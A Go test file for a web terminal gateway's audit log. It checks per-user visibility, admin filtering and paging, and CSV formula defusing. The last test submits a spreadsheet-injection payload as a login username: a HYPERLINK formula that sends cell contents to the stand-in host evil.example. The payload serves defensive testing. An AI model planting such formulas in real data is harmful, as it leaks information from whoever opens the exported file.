package handlers_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"

	"github.com/shellgate/shellgate/store"
)

// TestMemberSeesOnlyOwnAuditEvents: a member cannot read another member's history, even
// by asking for it in the query string or through the export.
func TestMemberSeesOnlyOwnAuditEvents(t *testing.T) {
	e := newEnv(t)
	e.addUser("alice", pw, store.RoleMember)
	e.addUser("bob", pw, store.RoleMember)
	a, b := e.browser(), e.browser()
	a.signIn("alice", pw)
	b.signIn("bob", pw)

	_, doc := b.get("/audit?user=alice")
	doc.Find(`tr[data-event]`).Each(func(_ int, row *goquery.Selection) {
		if strings.Contains(row.Text(), "alice") {
			t.Errorf("bob sees an event of alice: %q", row.Text())
		}
	})
	if doc.Find(`tr[data-event="login"]`).Length() == 0 {
		t.Fatal("bob does not see his own sign-in")
	}
	req, _ := http.NewRequest(http.MethodGet, e.srv.URL+"/audit/export?format=json&user=alice", nil)
	resp := b.do(req)
	var events []map[string]any
	if err := json.NewDecoder(resp.Body).Decode(&events); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	for _, ev := range events {
		if ev["user"] != "bob" {
			t.Fatalf("bob's export contains %v", ev)
		}
	}
}

func TestAdminFiltersAndPages(t *testing.T) {
	e := newEnv(t)
	e.addUser("root", pw, store.RoleAdmin)
	e.addUser("alice", pw, store.RoleMember)
	ctx := context.Background()
	for range 60 {
		e.store.AppendEvent(ctx, &store.Event{Kind: "terminal.start", ActorName: "alice", OK: true, Target: "web-1"})
	}
	admin := e.browser()
	admin.signIn("root", pw)
	_, doc := admin.get("/audit?kind=terminal.&user=alice")
	rows := doc.Find(`tr[data-event="terminal.start"]`).Length()
	if rows != 50 || doc.Find(`tr[data-event="login"]`).Length() != 0 {
		t.Fatalf("filtered first page has %d terminal rows (want 50) and no sign-ins", rows)
	}
	older, ok := doc.Find(`nav.pager a`).Last().Attr("href")
	if !ok || !strings.Contains(older, "before=") {
		t.Fatal("no link to older events")
	}
	_, doc = admin.get(older)
	if n := doc.Find(`tr[data-event="terminal.start"]`).Length(); n != 10 {
		t.Fatalf("second page has %d rows, want 10", n)
	}
}

// TestAuditCSVDefusesFormulas: an attacker types "=HYPERLINK(...)" as a username at the
// sign-in form; the failed attempt is logged; an admin exports the log and opens it in a
// spreadsheet. The cell must be text, not a formula.
func TestAuditCSVDefusesFormulas(t *testing.T) {
	e := newEnv(t)
	e.addUser("root", pw, store.RoleAdmin)
	attacker := e.browser()
	attacker.get("/login")
	evil := `=HYPERLINK("https://evil.example/?"&A1,"click")`
	attacker.post("/login", url.Values{"username": {evil}, "password": {"x"}}).Body.Close()

	admin := e.browser()
	admin.signIn("root", pw)
	req, _ := http.NewRequest(http.MethodGet, e.srv.URL+"/audit/export?format=csv", nil)
	resp := admin.do(req)
	defer resp.Body.Close()
	if cd := resp.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") {
		t.Fatalf("export is not an attachment: %q", cd)
	}
	records, err := csv.NewReader(resp.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range records {
		for _, cell := range r {
			if strings.Contains(cell, "HYPERLINK") {
				found = true
				if !strings.HasPrefix(cell, "'") {
					t.Fatalf("formula cell exported as is: %q", cell)
				}
			}
		}
	}
	if !found {
		t.Fatal("the failed sign-in is missing from the export")
	}
}
